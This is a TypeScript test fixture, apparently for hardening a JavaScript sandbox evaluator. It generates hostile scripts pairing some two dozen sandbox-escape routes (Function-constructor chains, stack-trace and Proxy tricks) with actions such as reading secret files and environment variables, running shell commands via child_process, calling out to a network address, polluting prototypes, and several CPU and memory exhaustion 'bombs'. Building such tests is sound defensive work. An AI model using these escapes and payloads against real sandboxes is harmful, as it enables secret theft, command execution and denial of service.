/**
 * Scripts that want out: every way to a global object, or to a function of whoever runs them, with everything that one could do with it.
 * What each gets is in its result; what it does can be seen from outside.
 */

/** What there is to get. */
export interface Prize {
  /** A file that holds the secret. */
  readonly secretFile: string;
  /** A variable of the host's environment that holds it. */
  readonly secretVariable: string;
  /** A folder that nobody should write to. */
  readonly marks: string;
  /** An address that nobody should call. */
  readonly url: string;
  /** A module of the host. */
  readonly module: string;
}

/** Expressions whose value, or what it resolves to, is a global object, if they get there. */
const WAYS: readonly string[] = [
  "globalThis",
  "this ?? globalThis",
  "(0, eval)('this')",
  "Function('return this')()",
  "new Function('return this')()",
  "(() => {}).constructor('return this')()",
  "(async () => {}).constructor('return this')()",
  "(function* () {}).constructor('return this')().next().value",
  "(async function* () {}).constructor('yield this')().next().then((one) => one.value)",
  "row.constructor.constructor('return this')()",
  "context.constructor.constructor('return this')()",
  "Object.getPrototypeOf(context).constructor.constructor('return this')()",
  "JSON.parse.constructor('return this')()",
  "Reflect.construct(Function, ['return this'])()",
  "Reflect.apply(Function, null, ['return this'])()",
  "new Proxy(Function, {})('return this')()",
  "new Error('x').constructor.constructor('return this')()",
  "Promise.resolve().constructor.constructor('return this')()",
  "import('x').catch((error) => error.constructor.constructor('return this')())",
  "(() => { try { null.x; } catch (error) { return error.constructor.constructor('return this')(); } })()",
  "(() => { try { (function deep() { deep(); })(); } catch (error) { return error.constructor.constructor('return this')(); } })()",
  "(() => { let sites; Error.prepareStackTrace = (_, all) => { sites = all; }; new Error().stack; Error.prepareStackTrace = undefined; return sites?.[0]?.getThis?.() ?? globalThis; })()",
  "(() => { let seen; const trap = new Proxy({}, { get: (_, key, self) => { seen = self; return undefined; } }); String(Object.keys(trap)); trap.x; return seen.constructor ?? globalThis; })()",
];

/** What is done with `g`; each gives something that could be shown, or leaves a mark. */
const deeds = ({ secretFile, secretVariable, marks, url, module }: Prize): readonly string[] => {
  const file = JSON.stringify(secretFile);
  const mark = (name: string): string => JSON.stringify(`${marks}/${name}`);
  const at = (name: string): string => JSON.stringify(`${url}/${name}`);
  const require = "(g.require ?? g.process?.mainModule?.require)";
  return [
    "Object.getOwnPropertyNames(g).join()",
    `g.process.env[${JSON.stringify(secretVariable)}]`,
    "JSON.stringify(g.process.env)",
    `g.process.getBuiltinModule('node:fs').readFileSync(${file}, 'utf8')`,
    `g.process.getBuiltinModule('fs').writeFileSync(${mark("builtin")}, 'x')`,
    `${require}('node:fs').readFileSync(${file}, 'utf8')`,
    `g.process.binding('fs').internalModuleReadJSON(${file}).toString()`,
    `import('node:fs').then((fs) => fs.readFileSync(${file}, 'utf8'))`,
    `import('fs').then((fs) => fs.writeFileSync(${mark("import")}, 'x'))`,
    `import('node:fs/promises').then((fs) => fs.appendFile(${mark("promises")}, 'x'))`,
    `import('node:module').then((m) => m.createRequire('/')('node:fs').readFileSync(${file}, 'utf8'))`,
    `import('node:child_process').then((c) => c.execSync('cat ' + ${file}).toString())`,
    `import('node:child_process').then((c) => c.execSync('touch ' + ${mark("child")}))`,
    `import('node:worker_threads').then((w) => JSON.stringify(w.workerData) + w.threadId + new w.Worker('require("node:fs").writeFileSync(' + JSON.stringify(${mark("worker")}) + ', "x")', { eval: true }))`,
    "import('node:worker_threads').then((w) => { w.parentPort.postMessage({ type: 'ready' }); return 'host ' + w.threadId; })",
    `import('node:http').then((h) => new Promise((done) => h.get(${at("http")}, () => done('host answered'))))`,
    `import('node:net').then((n) => new Promise((done) => n.connect(new URL(${at("net")}).port, '127.0.0.1', () => done('host answered'))))`,
    "import('node:vm').then((vm) => 'host ' + vm.runInThisContext('process.pid'))",
    "import('node:os').then((os) => 'host ' + os.hostname())",
    "import('node:v8').then((v8) => 'host ' + v8.getHeapStatistics().total_heap_size)",
    "import('node:inspector').then((i) => 'host ' + typeof i.Session)",
    `import(${JSON.stringify(`file://${secretFile}`)}).then((m) => JSON.stringify(m))`,
    `import(${file}).then((m) => JSON.stringify(m))`,
    `import('./secret.txt').then((m) => JSON.stringify(m))`,
    `import('data:text/javascript,export default "host"').then((m) => m.default)`,
    `import(${JSON.stringify(module)}).then((m) => 'host ' + Object.keys(m))`,
    "import('quickjs-emscripten-core').then((m) => 'host ' + Object.keys(m))",
    "import('std').then((m) => 'host ' + Object.keys(m))",
    "import('os').then((m) => 'host ' + Object.keys(m))",
    `g.std.loadFile(${file})`,
    `g.os.open(${file}, 0)`,
    `g.loadScript(${file})`,
    `g.fetch(${at("fetch")}).then((r) => r.text())`,
    `g.fetch(${JSON.stringify(`file://${secretFile}`)}).then((r) => r.text())`,
    `new g.WebSocket(${at("socket").replace("http", "ws")}).url`,
    `new g.EventSource(${at("events")}).url`,
    "'host ' + new g.Worker('data:text/javascript,1')",
    "'host ' + g.Buffer.from('x').toString()",
    "'host ' + g.process.pid",
    "'host ' + g.process.kill(g.process.ppid, 0)",
    "'host ' + g.process.report.writeReport()",
    "'host ' + g.process.dlopen({ exports: {} }, '/nowhere.node')",
    "'host ' + typeof new g.MessageChannel().port1.postMessage",
    "'host ' + new g.WebAssembly.Memory({ initial: 1 }).buffer.byteLength",
    "'host ' + g.setTimeout(() => {}, 0)",
    "(() => { g.Object.prototype.polluted = 'yes'; g.Array.prototype.map = () => ['yes']; return 'done'; })()",
    '(() => { g.JSON.stringify = () => \'{"value":{"__proto__":{"polluted":"yes"}}}\'; g.JSON.parse = () => ({ polluted: \'yes\' }); return \'done\'; })()',
    "(() => { g.Object.prototype.toJSON = () => ({ polluted: 'yes' }); g.Promise.prototype.then = () => 'yes'; return 'done'; })()",
  ];
};

/** What has no end, or no bound. */
export const BOMBS: readonly (readonly [code: string, codes: readonly string[]])[] = [
  ["for (;;);", ["CALC-TIMEOUT"]],
  ["(async () => { for (;;) await null; })()", ["CALC-TIMEOUT"]],
  ["(() => { const kept = []; for (;;) kept.push(new ArrayBuffer(1e6)); })()", ["CALC-OOM"]],
  ["(() => { const kept = []; for (;;) kept.push({ kept }); })()", ["CALC-OOM"]],
  ["(() => { let text = 'x'; for (;;) text += text; })()", ["CALC-OOM", "CALC-THREW"]],
  ["'x'.repeat(2 ** 30).length + 'x'.padEnd(2 ** 30).length", ["CALC-OOM", "CALC-THREW"]],
  ["(function deep() { return deep() + 1; })()", ["CALC-THREW"]],
  [
    "(() => { let list = []; for (let i = 0; i < 1e6; i++) list = [list]; return list; })()",
    ["CALC-OOM", "CALC-RESULT"],
  ],
];

/** Rows `{ n, code }`; their calculator evaluates the code with `row` and `context` in its scope. */
export function hostileRows(prize: Prize, ways: readonly string[] = WAYS): readonly { n: number; code: string }[] {
  const codes = ways.flatMap((way) =>
    deeds(prize).map(
      (deed) => `(async () => {
  const n = row.n;
  try {
    const g = await (${way});
    const got = await (${deed});
    return { n, got: typeof got === "object" ? JSON.stringify(got) : String(got) };
  } catch (error) {
    return { n, failed: String(error) };
  }
})()`,
    ),
  );
  return codes.map((code, n) => ({ n, code }));
}

/** Takes what it is sent for code. */
export const HOSTILE_SCRIPT =
  "export default (row, context) => (row.code === undefined ? { n: row.n, polluted: {}.polluted ?? null } : eval(row.code));\n";
